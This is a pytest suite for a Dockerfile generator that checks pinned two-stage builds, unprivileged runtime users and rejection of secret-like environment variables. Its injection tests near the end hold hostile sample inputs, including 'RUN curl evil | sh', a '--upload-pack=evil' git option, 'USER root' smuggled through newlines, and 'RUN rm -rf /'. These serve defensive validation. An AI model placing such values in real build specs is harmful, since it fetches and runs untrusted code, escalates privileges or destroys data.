"""The Dockerfiles DockerBuilderFactory writes: structure per language, pinning, safety."""

from __future__ import annotations

import json
import re

import pytest
from panther import DockerBuilderFactory
from panther.services.docker_build import (
    BUILDER_IMAGE_ARG,
    RUNTIME_IMAGE_ARG,
    DockerBuildSpecError,
    packaged_dockerfile,
)

REPO = "https://github.com/example/impl.git"


def instructions(dockerfile: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) for every non-comment line."""
    result = []
    for line in dockerfile.splitlines():
        if line.strip() and not line.startswith("#"):
            keyword, _, rest = line.partition(" ")
            result.append((keyword, rest))
    return result


def stages(dockerfile: str) -> list[list[tuple[str, str]]]:
    found: list[list[tuple[str, str]]] = []
    for keyword, rest in instructions(dockerfile):
        if keyword == "FROM":
            found.append([])
        if found:
            found[-1].append((keyword, rest))
    return found


def exec_runs(stage: list[tuple[str, str]]) -> list[list[str]]:
    return [json.loads(rest) for keyword, rest in stage if keyword == "RUN" and rest.startswith("[")]


@pytest.mark.parametrize(
    ("language", "builder_image"),
    [
        ("c", "debian:bookworm"),
        ("rust", "rust:1.83-bookworm"),
        ("go", "golang:1.22-bookworm"),
        ("python", "python:3.11-slim-bookworm"),
    ],
)
def test_every_language_gives_a_pinned_two_stage_build_that_runs_unprivileged(
    language: str, builder_image: str
) -> None:
    builder = DockerBuilderFactory.create_builder(
        implementation_name="impl", language=language, repo_url=REPO, ref="0123abcd", build_features=["fast"]
    )
    dockerfile = builder.generate_complete_dockerfile()

    assert f"ARG {BUILDER_IMAGE_ARG}={builder_image}" in dockerfile.splitlines()
    build, runtime = stages(dockerfile)
    assert build[0] == ("FROM", f"${{{BUILDER_IMAGE_ARG}}} AS builder")
    assert runtime[0] == ("FROM", f"${{{RUNTIME_IMAGE_ARG}}} AS runtime")

    runs = exec_runs(build)
    clone = runs.index(["git", "clone", "--", REPO, "/src/impl"])
    assert runs[clone + 1] == ["git", "-C", "/src/impl", "checkout", "--detach", "0123abcd"]

    labels = dict(rest.split("=", 1) for keyword, rest in runtime if keyword == "LABEL")
    assert json.loads(labels["org.opencontainers.image.source"]) == REPO
    assert json.loads(labels["org.opencontainers.image.revision"]) == "0123abcd"

    users = [rest for keyword, rest in runtime if keyword == "USER"]
    assert users == ["panther"]
    # USER comes last so that nothing after it runs as root by mistake.
    assert runtime[-1] == ("USER", "panther")
    assert not [rest for keyword, rest in build if keyword == "USER"]


def test_language_defaults_build_with_the_requested_features() -> None:
    def build_runs(language: str) -> list[list[str]]:
        dockerfile = DockerBuilderFactory.create_builder(
            implementation_name="impl", language=language, repo_url=REPO, ref="v1", build_features=["a", "b"]
        ).generate_complete_dockerfile()
        return exec_runs(stages(dockerfile)[0])

    assert ["cargo", "build", "--release", "--locked", "--features", "a,b"] in build_runs("rust")
    assert ["cmake", "-S", ".", "-B", "build", "-DCMAKE_BUILD_TYPE=Release", "-Da=ON", "-Db=ON"] in build_runs("c")
    assert ["go", "build", "-trimpath", "-o", "impl", "-tags", "a,b", "."] in build_runs("go")
    assert ["python3", "-m", "pip", "wheel", "--no-cache-dir", "--wheel-dir", "/wheels", ".[a,b]"] in build_runs(
        "python"
    )


def test_plugin_options_shape_the_dockerfile() -> None:
    builder = DockerBuilderFactory.create_builder(
        implementation_name="picoquic",
        language="c",
        repo_url="https://github.com/private-octopus/picoquic.git",
        ref="f1e2d3c4",
        extra_sources=[{"url": "https://github.com/h2o/picotls.git", "ref": "a1b2c3d4"}],
        build_packages=["libssl-dev", "faketime"],
        runtime_packages=["libssl3"],
        build_commands=[["cmake", "-S", ".", "-B", "build"], ["cmake", "--build", "build", "--parallel", "2"]],
        binaries=["build/picoquicdemo", "/opt/extra/tool"],
        base_image="example/c-builder:1",
        runtime_image="example/slim:1",
    )
    dockerfile = builder.generate_complete_dockerfile()
    build, runtime = stages(dockerfile)
    runs = exec_runs(build)

    assert "ARG PANTHER_BUILDER_IMAGE=example/c-builder:1" in dockerfile
    assert "ARG PANTHER_RUNTIME_IMAGE=example/slim:1" in dockerfile
    # The dependency is checked out at its own pin, before the implementation is built.
    picotls = runs.index(["git", "-C", "/src/picotls", "checkout", "--detach", "a1b2c3d4"])
    first_build = runs.index(["cmake", "-S", ".", "-B", "build"])
    assert picotls < first_build
    assert ["git", "-C", "/src/picoquic", "checkout", "--detach", "f1e2d3c4"] in runs
    # The plugin's own commands replace the language default.
    assert ["cmake", "-S", ".", "-B", "build", "-DCMAKE_BUILD_TYPE=Release"] not in runs

    apt = [rest for keyword, rest in build if keyword == "RUN" and "apt-get install" in rest]
    assert len(apt) == 1 and "faketime" in apt[0].split() and apt[0].split().count("libssl-dev") == 1
    runtime_apt = [rest for keyword, rest in runtime if keyword == "RUN" and "apt-get install" in rest]
    assert len(runtime_apt) == 1 and "libssl3" in runtime_apt[0].split()

    copies = [rest for keyword, rest in runtime if keyword == "COPY"]
    assert copies == [
        "--from=builder /src/picoquic/build/picoquicdemo /usr/local/bin/picoquicdemo",
        "--from=builder /opt/extra/tool /usr/local/bin/tool",
    ]


def test_without_a_repository_the_build_context_is_the_source() -> None:
    dockerfile = DockerBuilderFactory.create_builder(
        implementation_name="local_impl", language="rust"
    ).generate_complete_dockerfile()
    build = stages(dockerfile)[0]
    assert ("COPY", ". /src/local_impl") in build
    assert not [r for r in exec_runs(build) if r[:2] == ["git", "clone"]]
    assert "org.opencontainers.image.source" not in dockerfile


def test_no_secret_like_environment_reaches_the_image() -> None:
    for language in DockerBuilderFactory.known_languages():
        dockerfile = DockerBuilderFactory.create_builder(
            implementation_name="impl",
            language=language,
            repo_url=REPO,
            ref="v1",
            runtime_env={"RUST_LOG": "debug"},
        ).generate_complete_dockerfile()
        env_names = [
            re.split(r"[= ]", rest, maxsplit=1)[0] for keyword, rest in instructions(dockerfile) if keyword == "ENV"
        ]
        assert "RUST_LOG" in env_names
        assert not [n for n in env_names if re.search(r"SECRET|TOKEN|PASSWORD|KEY|CREDENTIAL", n, re.I)]

    with pytest.raises(DockerBuildSpecError, match="GITHUB_TOKEN.*secret"):
        DockerBuilderFactory.create_builder(
            implementation_name="impl", language="rust", repo_url=REPO, ref="v1", runtime_env={"GITHUB_TOKEN": "x"}
        )


def test_unknown_language_names_the_known_ones() -> None:
    with pytest.raises(DockerBuildSpecError) as info:
        DockerBuilderFactory.create_builder(implementation_name="impl", language="cobol", repo_url=REPO)
    message = str(info.value)
    assert "impl" in message and "'cobol'" in message
    assert "known: c, go, python, rust" in message


def test_unknown_option_is_named() -> None:
    with pytest.raises(DockerBuildSpecError, match=r"unknown Docker build option\(s\) refs .*known: .*ref"):
        DockerBuilderFactory.create_builder(implementation_name="impl", language="c", repo_url=REPO, refs="v1")


@pytest.mark.parametrize(
    "options",
    [
        {"repo_url": REPO + "\nRUN curl evil | sh", "ref": "v1"},
        {"repo_url": REPO, "ref": "v1\nUSER root"},
        {"repo_url": REPO, "ref": "--upload-pack=evil"},
        {"repo_url": REPO, "ref": "v1", "build_packages": ["git && curl evil"]},
        {"repo_url": REPO, "ref": "v1", "runtime_packages": "libssl3"},
        {"repo_url": REPO, "ref": "v1", "binaries": ["build/x\nUSER root"]},
        {"repo_url": REPO, "ref": "v1", "build_commands": [[]]},
        {"repo_url": REPO, "ref": "v1", "extra_sources": [{"url": REPO, "branch": "main"}]},
        {"ref": "v1"},
    ],
)
def test_values_that_would_inject_instructions_are_refused(options: dict[str, object]) -> None:
    with pytest.raises(DockerBuildSpecError, match="impl"):
        DockerBuilderFactory.create_builder(implementation_name="impl", language="c", **options)


def test_packaged_dockerfile_installs_debian_packages_and_runs_as_a_user() -> None:
    text = packaged_dockerfile("nginx", ["nginx-light"])
    assert f"ARG {RUNTIME_IMAGE_ARG}=debian:bookworm-slim" in text.splitlines()
    assert re.findall(r"^FROM .*$", text, re.MULTILINE) == [f"FROM ${{{RUNTIME_IMAGE_ARG}}}"]
    assert "apt-get install -y --no-install-recommends nginx-light" in text
    assert 'LABEL org.panther.implementation="nginx"' in text
    assert text.rstrip().splitlines()[-1] == "USER panther"


@pytest.mark.parametrize("packages", [[], ["nginx light"], ["curl\nRUN rm -rf /"]])
def test_packaged_dockerfile_refuses_what_is_not_a_package_list(packages: list[str]) -> None:
    with pytest.raises(DockerBuildSpecError, match="packaged Dockerfile for 'curl'"):
        packaged_dockerfile("curl", packages)
